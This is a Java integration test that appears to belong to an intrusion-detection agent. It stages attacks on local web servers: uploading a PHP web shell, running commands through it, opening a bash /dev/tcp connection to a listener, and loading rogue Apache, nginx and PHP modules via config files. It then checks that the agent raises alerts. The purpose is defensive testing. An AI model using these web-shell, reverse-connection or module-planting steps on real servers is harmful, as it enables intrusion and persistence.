package io.graftwatch.testbed.attacks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.graftwatch.delivery.finding.Json;
import io.graftwatch.testbed.Program;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/// Intruders at work on Debian's nginx, PHP-FPM and Apache, that were started with configurations
/// of their own: each attack is told while it goes on, with what was placed where anything was, and
/// nothing is told before it.
@Timeout(180)
class LiveAttacksTest {
  private static final List<String> PROGRAMS =
      List.of("/usr/sbin/auditctl", "/usr/sbin/apache2", "/usr/sbin/nginx", "/usr/sbin/php-fpm8.2");

  /// From an act to its finding, beside whatever else this machine does.
  private static final long PATIENCE_SECONDS = 20;

  @TempDir private Path folder;
  private Site site;
  private Program agent;

  @BeforeEach
  void start() throws Exception {
    assumeTrue("root".equals(System.getProperty("user.name")), "needs root");
    for (String program : PROGRAMS) {
      String name = Path.of(program).getFileName().toString();
      assumeTrue(Files.isExecutable(Path.of(program)), "needs the program " + name);
    }
    assumeTrue(auditctl("-s").contains("lost"), "needs kernel audit");
    Path config =
        Files.writeString(
            folder.resolve("agent.toml"),
            """
            [agent]
            state_dir = "%1$s/state"
            runtime_dir = "%1$s/run"
            host = "web01"
            [sources.auditd]
            mode = "netlink"
            [[outputs]]
            type = "ndjson-file"
            path = "%1$s/findings.ndjson"
            """
                .formatted(folder));
    site = new Site(Files.createDirectory(folder.resolve("site")));
    Files.setPosixFilePermissions(
        folder, java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
    agent =
        Program.start(
            folder.resolve("agent.txt"), Program.AGENT, "run", "--config", config.toString());
    agent.await("its rules are loaded", () -> auditctl("-l").contains("key=gw_exec"));
  }

  @AfterEach
  void stop() throws Exception {
    if (site != null) {
      site.stop();
    }
    if (agent != null) {
      assertThat(agent.stop()).isZero();
      assertThat(auditctl("-l")).as("nothing is left behind").doesNotContain("gw_");
    }
  }

  @Test
  void aWebShellThatPhpStoredRunsCommandsAndConnectsOut() throws Exception {
    site.php();
    site.nginx();
    assertThat(site.get("/index.php")).isEqualTo("ordinary");
    assertThat(site.post("/upload.php?name=a.php", Site.text("shell.php"))).isEqualTo("stored");
    assertThat(alerts()).as("nothing has run yet").isEmpty();

    assertThat(site.get("/uploads/a.php?c=id")).contains("www-data");
    JsonNode first = await("the command", f -> message(f).contains("ran 'sh -c id'"));
    assertThat(severity(first)).isIn("Medium", "High", "Critical");

    String address = Site.ownAddress();
    try (var listener = new ServerSocket(0, 1, InetAddress.getByName(address))) {
      String shell =
          "bash -c 'exec 3<>/dev/tcp/%s/%d; echo hello >&3'"
              .formatted(address, listener.getLocalPort());
      site.get("/uploads/a.php?c=" + java.net.URLEncoder.encode(shell, StandardCharsets.UTF_8));
      String end = " connected to " + address + ":" + listener.getLocalPort();
      JsonNode whole = await("the connection", f -> message(f).contains(end));
      assertThat(severity(whole)).isEqualTo("Critical");
      assertThat(uid(whole)).as("one case").isEqualTo(uid(first));
    }
  }

  @Test
  void aRogueApacheModuleIsToldWithWhatItRan() throws Exception {
    site.apache();
    Path module = site.library("mod_stats.c", "mod_stats.so");
    Files.writeString(
        site.path("apache/enabled/70-telemetry.conf"), "LoadModule stats_module " + module + "\n");
    site.signal("USR1");

    site.await(() -> site.get("/").contains("www-data"), "the module answers");
    JsonNode found = await("module and command", f -> alarming(f, "mod_stats.so"));
    assertThat(explanation(found)).contains("70-telemetry.conf");
  }

  @Test
  void aLibraryThatNginxLoadsRunsCommands() throws Exception {
    site.php();
    site.nginx();
    Path module = site.library("constructor.c", "ngx_http_stats_module.so");
    Files.writeString(
        site.path("nginx/enabled/70-telemetry.conf"), "load_module " + module + ";\n");
    site.signal("HUP");
    JsonNode found = await("module and command", f -> alarming(f, "ngx_http_stats_module.so"));
    assertThat(message(found)).startsWith("nginx on web01");
  }

  @Test
  void anExtensionThatPhpLoadsRunsCommands() throws Exception {
    site.php();
    Path extension = site.library("constructor.c", "stats.so");
    Files.writeString(
        site.path("fpm.conf"),
        "php_admin_value[extension] = " + extension + "\n",
        StandardOpenOption.APPEND);
    site.signal("USR2");
    JsonNode found = await("extension and command", f -> alarming(f, "stats.so"));
    assertThat(message(found)).startsWith("PHP on web01");
  }

  /// High or worse, about that component and what it ran.
  private static boolean alarming(JsonNode finding, String component) {
    return message(finding).contains("got component '" + component + "'")
        && message(finding).contains(" ran 'sh -c id; uname -a")
        && List.of("High", "Critical").contains(severity(finding));
  }

  private static String message(JsonNode finding) {
    return finding.path("message").asText();
  }

  private static String explanation(JsonNode finding) {
    return finding.path("finding_info").path("desc").asText();
  }

  private static String severity(JsonNode finding) {
    return finding.path("severity").asText();
  }

  private static String uid(JsonNode finding) {
    return finding.path("finding_info").path("uid").asText();
  }

  private JsonNode await(String what, Predicate<JsonNode> wanted) throws Exception {
    long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(PATIENCE_SECONDS);
    while (System.nanoTime() < end) {
      List<JsonNode> found = findings().stream().filter(wanted).toList();
      if (!found.isEmpty()) {
        return found.getLast();
      }
      agent.awaitEnd(100);
    }
    throw new AssertionError("no finding about " + what + " in " + findings());
  }

  private List<JsonNode> alerts() throws IOException {
    return findings().stream().filter(f -> f.path("is_alert").asBoolean()).toList();
  }

  private List<JsonNode> findings() throws IOException {
    Path file = folder.resolve("findings.ndjson");
    var found = new java.util.ArrayList<JsonNode>();
    if (Files.exists(file)) {
      String text = Files.readString(file);
      for (String line : text.substring(0, text.lastIndexOf('\n') + 1).lines().toList()) {
        found.add(Json.mapper().readTree(line));
      }
    }
    return found;
  }

  private static String auditctl(String option) {
    try {
      Process process =
          new ProcessBuilder("/usr/sbin/auditctl", option).redirectErrorStream(true).start();
      String out = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      process.waitFor();
      return out;
    } catch (IOException | InterruptedException e) {
      throw new AssertionError(e);
    }
  }
}
